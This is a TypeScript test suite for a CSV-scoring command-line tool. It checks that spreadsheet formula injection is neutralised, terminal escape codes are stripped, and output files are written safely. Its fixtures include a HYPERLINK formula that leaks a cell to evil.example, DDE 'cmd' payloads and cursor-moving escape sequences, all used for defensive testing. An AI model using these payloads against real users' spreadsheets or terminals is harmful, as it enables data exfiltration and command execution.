// Output that must not hurt: spreadsheet formulas, byte-order marks, terminal escapes, atomic files.
import { execFileSync, spawnSync } from "node:child_process";
import { existsSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { neutralizeCell } from "../../src/io/csv-safety.js";
import { NASTY_DIR } from "../fixtures/make-nasty.mjs";
import { FIXTURES, runCli, SMALL_PORTRAIT, tempDir } from "../helpers.js";

const P = join(tempDir({ "p.yaml": SMALL_PORTRAIT }), "p.yaml");
const INJECTION = join(NASTY_DIR, "formula-injection.csv");
const rowsOf = (csv: string) => parse(csv.replace(/^\uFEFF/, "")) as string[][];
const cellsOf = (csv: string) => rowsOf(csv).flat();

describe("CSV formula injection", () => {
  it("neutralises by OWASP's rule and leaves numbers and phone numbers alone", () => {
    const cases: Array<[string, string]> = [
      ["=1+1", "'=1+1"], ['=HYPERLINK("x")', `'=HYPERLINK("x")`], ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
      ["-cmd", "'-cmd"], ["@SUM(A1)", "'@SUM(A1)"], ["\tx", "'\tx"], ["\rx", "'\rx"],
      ["-5", "-5"], ["+3.2", "+3.2"], ["-1e3", "-1e3"], ["-0", "-0"], ["+49 40 3344 5566", "+49 40 3344 5566"],
      ["-2+3", "-2+3"], ["plain", "plain"], ["a=b", "a=b"], ["", ""], [" =1+1", " =1+1"],
    ];
    for (const [input, output] of cases) expect(neutralizeCell(input), JSON.stringify(input)).toBe(output);
  });

  it("neutralises input cells, header and reasons in CSV output by default; --raw keeps them", async () => {
    const safe = await runCli(["score", INJECTION, "-p", P]);
    const cells = cellsOf(safe.stdout);
    expect(cells).toContain(`'=HYPERLINK("http://evil.example/?x="&A1;"click")`);
    expect(cells).toContain("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(cells).toContain("'+cmd|' /C calc'!A0");
    expect(cells).toContain("'\tTAB lead");
    expect(cells).toContain("'\rCR lead");
    for (const n of ["-5", "+3.2", "-1e3", "-0", "-2+3", "+49 40 3344 5566"]) expect(cells).toContain(n);
    for (const c of cells) expect(/^[=@\t\r]/.test(c) || (/^[+-]/.test(c) && neutralizeCell(c) !== c), JSON.stringify(c)).toBe(false);
    const raw = await runCli(["score", INJECTION, "-p", P, "--raw"]);
    expect(cellsOf(raw.stdout)).toContain(`=HYPERLINK("http://evil.example/?x="&A1;"click")`);
  });

  it("neutralises a portrait label that would run as a formula", async () => {
    const dir = tempDir({ "p.yaml": "name: t\ncriteria:\n  - { id: a, label: '=2+2', field: country, present: true, weight: 1 }\n" });
    const out = rowsOf((await runCli(["score", INJECTION, "-p", join(dir, "p.yaml")])).stdout);
    expect(out[1]!.at(-1)).toBe("'=2+2 (present) +100");
  });

  it("neutralises the rejects file too", async () => {
    const dir = tempDir({ "bad.csv": "company,country\n=cmd|x,DE,extra\n" });
    await runCli(["score", join(dir, "bad.csv"), "-p", P, "--rejects", join(dir, "rej.csv"), "--allow-missing-fields"]);
    expect(rowsOf(readFileSync(join(dir, "rej.csv"), "utf8"))[1]![3]).toBe("'=cmd|x,DE,extra");
  });

  const soffice = spawnSync("soffice", ["--version"], { encoding: "utf8" }).status === 0;
  it.skipIf(!soffice)("a real spreadsheet engine (LibreOffice, evaluating formulas) runs none of the neutralised cells", () => {
    const dir = tempDir();
    const evaluate = (csv: string): string[][] => {
      writeFileSync(join(dir, "in.csv"), csv);
      // Import with "evaluate formulas" on (token 13), then export the values as shown.
      execFileSync("soffice", ["--headless", "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,false,true", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1", "--outdir", join(dir, "out"), join(dir, "in.csv")], { stdio: "ignore", timeout: 120_000 });
      return parse(readFileSync(join(dir, "out", "in.csv"), "utf8"), { relax_column_count: true }) as string[][];
    };
    return (async () => {
      const raw = await runCli(["score", INJECTION, "-p", P, "--raw"]);
      const rawSheet = evaluate(raw.stdout).flat();
      expect(rawSheet).toContain("click"); // the engine is live: unneutralised, =HYPERLINK(...) runs
      const safe = await runCli(["score", INJECTION, "-p", P]);
      const written = rowsOf(safe.stdout);
      const sheet = evaluate(safe.stdout);
      // Every cell reads back as written (text), or as the same number: nothing was evaluated.
      written.forEach((row, i) => row.slice(0, 6).forEach((cell, j) => {
        const shown = sheet[i]![j]!;
        const same = shown === cell.replace(/\r/g, "\n") || (cell.trim() !== "" && Number(cell) === Number(shown.replace(/E\+?/, "e")));
        expect(same, `${JSON.stringify(cell)} came back as ${JSON.stringify(shown)}`).toBe(true);
      }));
      expect(sheet.flat()).not.toContain("click");
    })();
  }, 180_000);
});

describe("--bom", () => {
  it("starts CSV output (and rejects) with a UTF-8 byte-order mark", async () => {
    const r = await runCli(["score", join(NASTY_DIR, "utf8-no-bom.csv"), "-p", P, "--bom"]);
    expect(r.stdout.startsWith("\uFEFFcompany,")).toBe(true);
    expect((await runCli(["score", join(NASTY_DIR, "utf8-no-bom.csv"), "-p", P])).stdout.startsWith("company,")).toBe(true);
    const dir = tempDir();
    await runCli(["score", join(NASTY_DIR, "ragged-rows.csv"), "-p", P, "--bom", "--rejects", join(dir, "r.csv"), "-o", join(dir, "o.csv")]);
    expect(readFileSync(join(dir, "r.csv"), "utf8").startsWith("\uFEFFfile,line")).toBe(true);
    expect(readFileSync(join(dir, "o.csv"))[0]).toBe(0xef);
  });
});

describe("terminal output", () => {
  it("strips control characters from data, so a cell cannot move the cursor or change colours", async () => {
    const r = await runCli(["score", join(NASTY_DIR, "control-chars.csv"), "-p", P], { tty: true, env: { NO_COLOR: "1" } });
    expect(r.code).toBe(0);
    expect(r.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect(r.stdout).toContain("[31mRED[0m Corp");
    const coloured = await runCli(["score", join(NASTY_DIR, "control-chars.csv"), "-p", P], { tty: true });
    // Only our own colour codes remain: every ESC is followed by one of chalk's SGR sequences.
    expect(coloured.stdout.replace(/\u001b\[[0-9;]*m/g, "")).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect(coloured.stdout).not.toContain("\u001b]0;");
    expect(coloured.stdout).not.toContain("\u001b[2J");
  });
  it("strips them from messages on stderr too", async () => {
    const dir = tempDir({ "x.csv": "company,country\n\u001b[2Jevil,DE,extra\n" });
    const r = await runCli(["score", join(dir, "x.csv"), "-p", P, "--allow-missing-fields"]);
    expect(r.stderr).not.toContain("\u001b");
  });
});

describe("output files", () => {
  it("a failed run leaves an existing output file as it was, and no temporary file", async () => {
    const dir = tempDir({ "out.csv": "precious,data\n" });
    const r = await runCli(["score", join(FIXTURES, "malformed-rows.csv"), "-p", P, "-o", "out.csv"], { cwd: dir });
    expect(r.code).toBe(1);
    expect(readFileSync(join(dir, "out.csv"), "utf8")).toBe("precious,data\n");
    expect(readdirSync(dir)).toEqual(["out.csv"]);
  });
  it("an unwritable output fails with exit 1 and a message", async () => {
    const r = await runCli(["score", join(NASTY_DIR, "utf8-no-bom.csv"), "-p", P, "-o", "/nonexistent-dir/out.csv"]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("cannot write /nonexistent-dir/out.csv");
    expect(existsSync("/nonexistent-dir")).toBe(false);
  });
  it("refuses to write over an input, through a different spelling of its path", async () => {
    const dir = tempDir({ "in.csv": readFileSync(join(NASTY_DIR, "utf8-no-bom.csv")) });
    const r = await runCli(["score", "in.csv", "-p", P, "--rejects", join(dir, ".", "in.csv")], { cwd: dir });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("it is one of the input files");
  });
});
